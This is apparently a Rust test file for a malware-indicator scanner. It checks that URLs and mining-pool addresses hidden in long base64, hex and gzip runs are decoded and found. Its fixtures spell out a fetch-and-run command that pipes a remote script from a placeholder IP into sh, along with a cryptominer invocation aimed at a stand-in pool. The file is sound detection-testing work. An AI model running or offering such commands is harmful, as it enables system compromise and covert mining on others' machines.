//! Long encoded runs, in one line or in many: decoded to their end, wherever chunks are cut.

use super::shown;
use crate::carve::kinds::encoded::base64;
use crate::carve::{Carved, Cut, Found, Stream};
use flate2::Compression;
use flate2::write::GzEncoder;
use std::fmt::Write as _;
use std::io::Write;

fn carved(bytes: &[u8], pieces: usize) -> (Vec<Carved>, Cut) {
    let mut found = Found::default();
    let mut stream = Stream::new(&mut found, 0);
    bytes.chunks(pieces).for_each(|piece| stream.feed(piece));
    drop(stream);
    found.finish()
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().fold(String::new(), |mut all, byte| {
        write!(all, "{byte:02x}").unwrap();
        all
    })
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = GzEncoder::new(Vec::new(), Compression::default());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

/// In lines of this width, as `base64` and `xxd -p` write them.
fn wrap(letters: &str, width: usize, between: &str) -> String {
    let lines: Vec<&str> =
        letters.as_bytes().chunks(width).map(|line| std::str::from_utf8(line).unwrap()).collect();
    lines.join(between) + "\n"
}

/// A script that says what it does after so many bytes of other lines.
fn script(before: usize) -> Vec<u8> {
    let mut script = b"#!/bin/sh\n".to_vec();
    while script.len() < before {
        script.extend(format!("# a line of {} that says nothing\n", script.len()).bytes());
    }
    script.extend(b"curl -fsSL http://203.0.113.7/edge.sh | sh\n./m -o stratum+tcp://xmr.edge.bad.site:3333 -u a\n");
    script
}

fn elf(length: usize) -> Vec<u8> {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(64, 0);
    // Control characters: they compress, and say nothing.
    let noise = |n: u32| n.wrapping_mul(2_654_435_761).to_le_bytes().map(|b| b & 0x1f);
    elf.extend((0..u32::try_from(length).unwrap()).flat_map(noise));
    elf.extend(b"\0http://203.0.113.7/edge.sh\0stratum+tcp://xmr.edge.bad.site:3333\0");
    elf
}

fn expect(bytes: &[u8], way: &str, offset: u64, what: &str) {
    for pieces in [usize::MAX, 100_000, 4097] {
        let (found, cut) = carved(bytes, pieces);
        assert!(cut.nothing(), "{what}: {cut}");
        for (kind, value) in
            [("url", "http://203.0.113.7/edge.sh"), ("pool", "xmr.edge.bad.site:3333")]
        {
            let there = found.iter().any(|c| {
                c.kind == kind
                    && c.value == value.as_bytes()
                    && c.way.to_string() == way
                    && c.offset == offset
                    && c.count == 1
            });
            assert!(there, "{what}: {value} by {way}{}", shown(&found));
        }
        // Nothing that was cut at a line's or a window's edge.
        let false_ones = found.iter().filter(|c| {
            matches!(c.kind, "url" | "pool" | "domain" | "stratum" | "address")
                && !matches!(
                    c.value.as_slice(),
                    b"http://203.0.113.7/edge.sh"
                        | b"xmr.edge.bad.site:3333"
                        | b"stratum+tcp://xmr.edge.bad.site:3333"
                )
        });
        assert_eq!(false_ones.count(), 0, "{what}{}", shown(&found));
    }
}

#[test]
fn runs_are_decoded_to_their_end_in_one_line_or_in_many() {
    for before in [0, 100, 1_500, 3_000, 40_000, 700_000] {
        let script = script(before);
        let forms = [
            (base64(&script).replace('=', ""), "base64", [76, 64, 1000]),
            (hex(&script), "hex", [60, 64, 512]),
        ];
        for (letters, way, widths) in forms {
            expect(letters.as_bytes(), way, 0, &format!("{way} after {before}"));
            for (width, between) in widths.into_iter().zip(["\n", "\r\n", "\\\n    "]) {
                let text = format!("cat >x <<E\n{}E\n", wrap(&letters, width, between));
                expect(text.as_bytes(), way, 11, &format!("{way} by {width} after {before}"));
            }
        }
    }
}

#[test]
fn programs_and_members_within_runs_are_scanned_as_bytes() {
    for length in [20, 5_000, 150_000] {
        let elf = elf(length);
        for (file, inner) in [(elf.clone(), ""), (gzip(&elf), ">gzip")] {
            let (b, h) = (base64(&file).replace('=', ""), hex(&file));
            for text in [b.clone(), wrap(&b, 76, "\n")] {
                expect(text.as_bytes(), &format!("base64{inner}"), 0, &format!("{length}"));
            }
            for text in [h.clone(), wrap(&h, 60, "\n")] {
                expect(text.as_bytes(), &format!("hex{inner}"), 0, &format!("{length}"));
            }
            // The other way round.
            expect(&gzip(wrap(&b, 76, "\n").as_bytes()), &format!("gzip>base64{inner}"), 0, "gz");
        }
        let (found, _) = carved(base64(&elf).as_bytes(), usize::MAX);
        assert!(found.iter().any(|c| c.kind == "packer" && c.value == b"ELF in base64"));
        let (found, _) = carved(hex(&elf).as_bytes(), usize::MAX);
        assert!(found.iter().any(|c| c.kind == "packer" && c.value == b"ELF in hexadecimal"));
    }
}

#[test]
fn certificates_are_not_taken_for_runs() {
    let mut der = vec![0x30, 0x82, 3, 0x41, 0x30, 0x82, 2, 0x29];
    der.resize(57, 0x9a);
    der.extend(b"http://crl.authority.site/root-of-all.crl and http://crl2.authority.site/the-other.crl...");
    let text = format!("-----BEGIN CERTIFICATE-----\n{}", wrap(&base64(&der), 76, "\n"));
    let (found, _) = carved(text.as_bytes(), usize::MAX);
    assert!(found.is_empty(), "{}", shown(&found));
}

#[test]
fn lines_of_other_widths_are_runs_of_their_own() {
    let one = base64(b"http://203.0.113.7/a-first-line-of-a-list").replace('=', "");
    let other = base64(b"http://203.0.113.7/another-line-of-the-list-that-is-longer!");
    let text = format!("{one}\n{other}\n{one}\n");
    let (found, _) = carved(text.as_bytes(), usize::MAX);
    let urls: Vec<_> = found.iter().filter(|c| c.kind == "url").map(|c| c.value.clone()).collect();
    assert_eq!(
        urls,
        [
            b"http://203.0.113.7/a-first-line-of-a-list".to_vec(),
            b"http://203.0.113.7/another-line-of-the-list-that-is-longer".to_vec()
        ]
    );
}

#[test]
fn what_the_budget_leaves_out_of_a_run_is_told() {
    // Of a gzip member in base64 in another: more than four bytes for each that was scanned.
    let many = gzip(&base64(&vec![b'A'; 64 << 20]).into_bytes());
    let (_, cut) = carved(base64(&many).as_bytes(), usize::MAX);
    assert!(cut.encoded + cut.longer > 0, "{cut:?}");
}
